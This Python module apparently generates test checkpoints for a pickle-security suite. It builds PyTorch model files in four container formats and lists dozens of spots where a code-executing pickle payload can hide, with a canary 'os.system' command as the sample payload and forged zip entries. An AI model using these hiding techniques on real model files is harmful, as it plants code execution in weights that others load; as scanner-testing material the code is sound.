"""Checkpoints assembled without torch: four containers, three publishers' layouts, and places to hide a payload.

bare      one pickle; each tensor's numbers are a small legacy file inside (`torch.storage._load_from_bytes`)
zip       torch >= 1.6: data.pkl and one stored member for each storage
legacy    torch < 1.6: five pickles, then the storages
nvidia    as bare, its network an object of `torch_utils.persistence` with its source text
"""

from __future__ import annotations

import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from attacks.pickle_assembler import Program, build, glob, join, newobj, persistent_value, push, reduce, whole

MAGIC = 0x1950A86A20F9469CFC6C
SOURCE = "import os\nos.system('touch canary')\nclass Generator: pass\n"  # what a persistent object carries
SYSTEM = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


# -- tensors ----------------------------------------------------------------------------------------------------------


@dataclass
class Storages:
    """Names storages by persistent ids and keeps their numbers for the container.

    nested: a small legacy file in place of each.
    viewed: ids end with the view (none), as in legacy files.
    """

    protocol: int = 2
    nested: bool = False
    viewed: bool = False
    numbers: dict[str, bytes] = field(default_factory=dict)

    def storage(
        self, data: bytes, *, kind: Any = None, key: Any = None, place: Any = "cpu", count: Any = None
    ) -> Program:
        kind = glob("torch", "FloatStorage") if kind is None else kind
        key = str(len(self.numbers)) if key is None else key
        count = len(data) // 4 if count is None else count
        identity = ("storage", kind, key, place, count)
        if self.nested:
            inner = legacy_file(persistent_value((*identity, None), 2), {"0": data})
            return reduce("torch.storage", "_load_from_bytes", (inner,), self.protocol)
        self.numbers[key if isinstance(key, str) else str(len(self.numbers))] = data
        return persistent_value((*identity, None) if self.viewed else identity, self.protocol)

    def tensor(self, shape: tuple[Any, ...] = (2, 3), **parts: Any) -> Program:
        """`_rebuild_tensor_v2(storage, offset, size, stride, requires_grad, hooks[, metadata])`, any part as told."""
        count = 1
        for n in shape:
            count *= n if isinstance(n, int) else 1
        storage = parts.pop("storage", None) or self.storage(struct.pack(f"<{count}f", *range(count)))
        stride = tuple(_product(shape[i + 1 :]) for i in range(len(shape)))
        hooks = reduce("collections", "OrderedDict", (), self.protocol)
        args = {"offset": 0, "size": shape, "stride": stride, "requires_grad": False, "hooks": hooks, **parts}
        return reduce("torch._utils", "_rebuild_tensor_v2", (storage, *args.values()), self.protocol)


def _product(numbers: tuple[Any, ...]) -> int:
    result = 1
    for n in numbers:
        result *= n if isinstance(n, int) else 1
    return result


def ordered(mapping: dict[Any, Any], protocol: int = 2) -> Program:
    """An OrderedDict as Python writes it: made empty, then filled."""
    inside = b"".join(push(part, protocol) for pair in mapping.items() for part in pair)
    return join(reduce("collections", "OrderedDict", (), protocol), pickle.MARK, inside, pickle.SETITEMS)


def namespace(state: Any, protocol: int = 2) -> Program:
    return build(newobj("argparse", "Namespace", (), protocol), state, protocol)


def easy_dict(mapping: dict[str, Any], protocol: int = 2) -> Program:
    inside = b"".join(push(part, protocol) for pair in mapping.items() for part in pair)
    return join(newobj("dnnlib.util", "EasyDict", (), protocol), pickle.MARK, inside, pickle.SETITEMS)


def persistent_object(class_name: Any, state: Any, protocol: int = 2, **parts: Any) -> Program:
    """An object of NVIDIA's: what `torch_utils.persistence` writes for a class."""
    meta = {"type": "class", "version": 6, "module_src": SOURCE, "class_name": class_name, "state": state, **parts}
    return reduce("torch_utils.persistence", "_reconstruct_persistent_obj", (easy_dict(meta, protocol),), protocol)


# -- layouts ----------------------------------------------------------------------------------------------------------


def rosinality(s: Storages, **extra: Any) -> dict[str, Any]:
    tensors = {"input.input": s.tensor((1, 2, 4, 4)), "style.1.weight": s.tensor((3, 3)), "conv1.bias": s.tensor((3,))}
    args = namespace({"size": 32, "lr": 0.002, "path": None, "ckpt": "x.pt"}, s.protocol)
    return {"g_ema": ordered(tensors, s.protocol), "args": args, "latent_avg": s.tensor((3,)), **extra}


def restyle(s: Storages, **extra: Any) -> dict[str, Any]:
    names = ("encoder.input_layer.0.weight", "encoder.body.0.res_layer.0.bias", "decoder.style.1.weight")
    tensors = {name: s.tensor((2, 2)) for name in names}
    opts = {"encoder_type": "ResNetBackboneEncoder", "input_nc": 6, "lpips_lambda": 0.8, "resume": False}
    return {"state_dict": ordered(tensors, s.protocol), "opts": opts, "latent_avg": s.tensor((18, 4)), **extra}


def nvidia(s: Storages, **extra: Any) -> dict[str, Any]:
    buffer = s.tensor((4, 4))
    weight = reduce("torch._utils", "_rebuild_parameter", (s.tensor((3, 3)), True, ordered({}, s.protocol)), s.protocol)
    inner = persistent_object("MappingNetwork", {"_parameters": ordered({"weight": weight}, s.protocol)}, s.protocol)
    state = {
        "_buffers": ordered({"noise_const": buffer}, s.protocol),
        "_modules": ordered({"mapping": inner}, s.protocol),
    }
    network = persistent_object("Generator", {"training": False, **state, **extra}, s.protocol)
    kwargs = easy_dict({"path": "ffhq.zip", "use_labels": False}, s.protocol)
    return {"G": None, "D": None, "G_ema": network, "augment_pipe": None, "training_set_kwargs": kwargs}


Layout = Callable[..., dict[str, Any]]
LAYOUTS: dict[str, Layout] = {"rosinality": rosinality, "restyle": restyle, "nvidia": nvidia}


# -- containers -------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ZipMember:
    """One member of an archive, true or lying; `at` points its entry at bytes that are elsewhere in the file."""

    name: str
    data: bytes = b""
    method: int = 0
    size: int | None = None
    crc: int | None = None
    flags: int = 0
    local_name: str | None = None
    at: int | None = None


def zip_file(members: list[ZipMember], *, prefix: bytes = b"", comment: bytes = b"", count: int | None = None) -> bytes:
    """A zip archive (PKWARE's APPNOTE), written as told."""
    out, directory = bytearray(prefix), bytearray()
    for m in members:
        size = len(m.data) if m.size is None else m.size
        packed = len(m.data) if m.method else size
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        name, local = m.name.encode(), (m.name if m.local_name is None else m.local_name).encode()
        numbers = struct.pack("<5H3I", 20, m.flags, m.method, 0, 0, crc, packed, size)
        start = len(out) if m.at is None else m.at
        if m.at is None:
            out += b"PK\3\4" + numbers + struct.pack("<2H", len(local), 0) + local + m.data
        directory += b"PK\1\2\x14\0" + numbers + struct.pack("<5H2I", len(name), 0, 0, 0, 0, 0, start) + name
    total = len(members) if count is None else count
    end = struct.pack("<4H2IH", 0, 0, total & 0xFFFF, total & 0xFFFF, len(directory), len(out), len(comment))
    return bytes(out + directory) + b"PK\5\6" + end + comment


def torch_members(program: bytes, numbers: dict[str, bytes], root: str = "archive") -> list[ZipMember]:
    fixed = [ZipMember(f"{root}/data.pkl", program), ZipMember(f"{root}/byteorder", b"little")]
    data = [ZipMember(f"{root}/data/{key}", value) for key, value in numbers.items()]
    return [*fixed, *data, ZipMember(f"{root}/version", b"3\n")]


def legacy_file(
    program: bytes, numbers: dict[str, bytes], protocol: int = 2, *, system: Any = None, keys: Any = None
) -> bytes:
    """`system` and `keys` take the place of the values that stand before and behind the object."""
    head = [push(MAGIC), push(1001), push(SYSTEM if system is None else system), program]
    keys = [*numbers] if keys is None else keys
    pickles = b"".join(whole(part, max(protocol, 2)) for part in (*head, push(keys)))
    return pickles + b"".join(struct.pack("<q", len(data) // 4) + data for data in numbers.values())


def container(
    kind: str, layout: str = "rosinality", protocol: int = 2, extra: Callable[[Storages], Any] | None = None
) -> bytes:
    """A checkpoint. `extra` makes one more value of it, where an attack may stand."""
    layout = "nvidia" if kind == "nvidia" else layout
    s = Storages(protocol, nested=kind in ("bare", "nvidia"), viewed=kind == "legacy")
    more = {} if extra is None else {"extra": extra(s)}
    program = push(LAYOUTS[layout](s, **more), protocol)
    return pack(kind, program, s, protocol)


def pack(kind: str, program: bytes, s: Storages, protocol: int = 2) -> bytes:
    """Put a program and its storages into a container."""
    if kind == "zip":
        return zip_file(torch_members(whole(program, protocol), s.numbers))
    if kind == "legacy":
        return legacy_file(program, s.numbers, protocol)
    return whole(program, protocol)


CONTAINERS = ("bare", "zip", "legacy", "nvidia")


# -- places -----------------------------------------------------------------------------------------------------------

Place = Callable[[Program, Storages], Any]


def _array(p: Program, s: Storages) -> Program:
    """A numpy array of Python objects."""
    empty = reduce("numpy.core.multiarray", "_reconstruct", (glob("numpy", "ndarray"), (0,), b"b"), s.protocol)
    kind = build(
        reduce("numpy", "dtype", ("O8", False, True), s.protocol), (3, "|", None, None, None, -1, -1, 63), s.protocol
    )
    return build(empty, (1, (1,), kind, False, [p]), s.protocol)


PLACES: dict[str, Place] = {
    "value": lambda p, s: p,
    "key": lambda p, s: {p: 1},
    "key of an ordered dictionary": lambda p, s: ordered({p: 1}, s.protocol),
    "member of a set": lambda p, s: join(pickle.EMPTY_SET, pickle.MARK, p, pickle.ADDITEMS),
    "member of a frozen set": lambda p, s: join(pickle.MARK, p, pickle.FROZENSET),
    "member of an old set": lambda p, s: reduce("__builtin__", "set", ([p],), s.protocol),
    "in a tuple": lambda p, s: (1, p),
    "in a list": lambda p, s: [[[p]]],
    "popped": lambda p, s: join(p, pickle.POP, pickle.NONE),
    "popped to a mark": lambda p, s: join(pickle.MARK, p, pickle.POP_MARK, pickle.NONE),
    "memoised and popped": lambda p, s: join(p, pickle.LONG_BINPUT, b"\xff\xff\xff\x7f", pickle.POP, pickle.NONE),
    "option": lambda p, s: namespace({"size": p}, s.protocol),
    "options": lambda p, s: namespace(p, s.protocol),
    "argument of options": lambda p, s: newobj("argparse", "Namespace", (p,), s.protocol),
    "attribute of a dictionary": lambda p, s: build(ordered({}, s.protocol), {"x": p}, s.protocol),
    "__setstate__": lambda p, s: build(ordered({}, s.protocol), {"__setstate__": p}, s.protocol),
    "__class__": lambda p, s: namespace({"__class__": p}, s.protocol),
    "__dict__": lambda p, s: build(ordered({}, s.protocol), (None, {"__dict__": {"x": p}}), s.protocol),
    "pairs": lambda p, s: reduce("collections", "OrderedDict", ([["x", p]],), s.protocol),
    "default factory": lambda p, s: reduce("collections", "defaultdict", (p,), s.protocol),
    "hooks": lambda p, s: s.tensor(hooks=ordered({0: p}, s.protocol)),
    "requires_grad": lambda p, s: s.tensor(requires_grad=p),
    "metadata": lambda p, s: s.tensor(metadata={"x": p}),
    "offset": lambda p, s: s.tensor(offset=p),
    "size": lambda p, s: s.tensor(shape=(2, p)),
    "stride": lambda p, s: s.tensor(stride=p),
    "storage": lambda p, s: s.tensor(storage=p),
    "state of a tensor": lambda p, s: build(s.tensor(), {"x": p}, s.protocol),
    "parameter": lambda p, s: reduce("torch._utils", "_rebuild_parameter", (p, True, None), s.protocol),
    "state of a parameter": lambda p, s: reduce(
        "torch._utils", "_rebuild_parameter_with_state", (s.tensor(), True, None, {"x": p}), s.protocol
    ),
    "class of a storage": lambda p, s: s.storage(bytes(4), kind=p),
    "key of a storage": lambda p, s: s.storage(bytes(4), key=p),
    "place of a storage": lambda p, s: s.storage(bytes(4), place=p),
    "count of a storage": lambda p, s: s.storage(bytes(4), count=p),
    "type of an array": lambda p, s: reduce("numpy", "dtype", (p,), s.protocol),
    "state of a type": lambda p, s: build(reduce("numpy", "dtype", ("f4",), s.protocol), (3, "<", p), s.protocol),
    "array of objects": _array,
    "scalar": lambda p, s: reduce(
        "numpy.core.multiarray", "scalar", (reduce("numpy", "dtype", ("f4",)), p), s.protocol
    ),
    "encoding": lambda p, s: reduce("_codecs", "encode", ("x", p), s.protocol),
    "path": lambda p, s: reduce("pathlib", "PosixPath", (p,), s.protocol),
    "device": lambda p, s: reduce("torch", "device", (p,), s.protocol),
    "description of an object": lambda p, s: reduce(
        "torch_utils.persistence", "_reconstruct_persistent_obj", (p,), s.protocol
    ),
    "class name of an object": lambda p, s: persistent_object(p, {}, s.protocol),
    "source of an object": lambda p, s: persistent_object("Generator", {}, s.protocol, module_src=p),
    "state of an object": lambda p, s: persistent_object("Generator", p, s.protocol),
    "nested file": lambda p, s: reduce("torch.storage", "_load_from_bytes", (legacy_file(join(p), {}),), s.protocol),
    "nested file's storage": lambda p, s: reduce(
        "torch.storage",
        "_load_from_bytes",
        (legacy_file(persistent_value(("storage", p, "0", "cpu", 1, None)), {"0": bytes(4)}),),
        s.protocol,
    ),
    "nested file's keys": lambda p, s: reduce(
        "torch.storage",
        "_load_from_bytes",
        (legacy_file(persistent_value(("storage", glob("torch", "FloatStorage"), "0", "cpu", 1, None)), {}, keys=[p]),),
        s.protocol,
    ),
    "nested bare pickle": lambda p, s: reduce("torch.storage", "_load_from_bytes", (whole(p),), s.protocol),
    "nested zip": lambda p, s: reduce(
        "torch.storage", "_load_from_bytes", (zip_file(torch_members(whole(p), {})),), s.protocol
    ),
}
